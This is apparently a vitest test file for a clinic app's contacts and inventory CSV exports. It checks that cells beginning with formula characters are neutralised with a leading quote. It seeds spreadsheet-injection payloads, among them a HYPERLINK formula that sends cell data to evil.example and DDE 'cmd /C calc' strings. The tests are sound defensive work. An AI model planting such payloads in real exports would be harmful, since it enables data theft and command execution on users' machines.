import { beforeAll, describe, expect, it } from "vitest";
import { parse } from "csv-parse/sync";
import { forOrg } from "@/lib/db";
import { contactsCsvStream } from "@/lib/contacts/export";
import { streamInventoryCsv } from "@/lib/inventory/csv-export";
import { prisma, resetDatabase } from "../support/db";
import { seedLocation, seedOrg } from "../support/factories";
import { seedInventoryItem } from "../support/inventory";

/** What a public GHL form or a careless import can put in a name: each runs in a spreadsheet as written. */
const PAYLOADS = ['=HYPERLINK("https://evil.example/?d="&A1,"Open")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=1+1", "＝1+1"];
const FORMULA_START = /^[=+\-@\t\r\n＝＋－＠]/;

async function read(stream: ReadableStream<Uint8Array>): Promise<string[][]> {
  const text = await new Response(stream).text();
  return parse(text, { relax_column_count: false }) as string[][];
}

let org: { id: string };
let location: { id: string; organizationId: string };

beforeAll(async () => {
  await resetDatabase();
  org = await seedOrg();
  location = await seedLocation(org.id);
  await prisma.location.update({ where: { id: location.id }, data: { name: "=cmd|'/C calc'!A0" } });
  const now = new Date();
  for (const [i, payload] of PAYLOADS.entries()) {
    await prisma.contact.create({
      data: {
        organizationId: org.id, locationId: location.id, ghlContactId: `evil-${i}`, firstName: payload, lastName: payload,
        email: `${payload.replace(/[^a-z0-9]/gi, "")}${i}@example.com`.replace(/^/, i % 2 ? "=" : "@"), tags: [payload, "vip"],
        dateAdded: now, ghlUpdatedAt: now,
      },
    });
    const { item } = await seedInventoryItem(location, { sku: `${payload}-${i}`, name: payload });
    await prisma.inventoryItem.update({ where: { id: item.id }, data: { category: payload, unit: payload, supplier: payload } });
  }
});

function expectNoFormulaCells(rows: string[][]) {
  const cells = rows.slice(1).flat();
  expect(cells.length).toBeGreaterThan(PAYLOADS.length);
  expect(cells.filter((cell) => FORMULA_START.test(cell))).toEqual([]);
}

describe("every CSV export writes text, never formulas", () => {
  it("contacts export: names, emails, tags and clinic names are neutralised", async () => {
    const rows = await read(contactsCsvStream({ clinicIds: null, db: forOrg(org.id) }, {}));
    expect(rows).toHaveLength(PAYLOADS.length + 1);
    expectNoFormulaCells(rows);
    const byId = new Map(rows.slice(1).map((row) => [row[7], row]));
    const first = byId.get("evil-0")!;
    expect(first[0]).toBe(`'${PAYLOADS[0]}`);
    expect(first[4]).toBe(`'${PAYLOADS[0]}; vip`);
    expect(first[5]).toBe("'=cmd|'/C calc'!A0");
    expect(byId.get("evil-1")![2]!.startsWith("'=")).toBe(true);
  });

  it("inventory export: clinic, SKU, name, category, unit and supplier are neutralised", async () => {
    const rows = await read(streamInventoryCsv(forOrg(org.id), [location.id]));
    expect(rows).toHaveLength(PAYLOADS.length + 1);
    expectNoFormulaCells(rows);
    const saline = rows.find((row) => row[2] === `'${PAYLOADS[0]}`);
    expect(saline?.slice(0, 8)).toEqual(["'=cmd|'/C calc'!A0", `'${PAYLOADS[0]}-0`, `'${PAYLOADS[0]}`, `'${PAYLOADS[0]}`, `'${PAYLOADS[0]}`, "2.50", `'${PAYLOADS[0]}`, "5"]);
  });
});
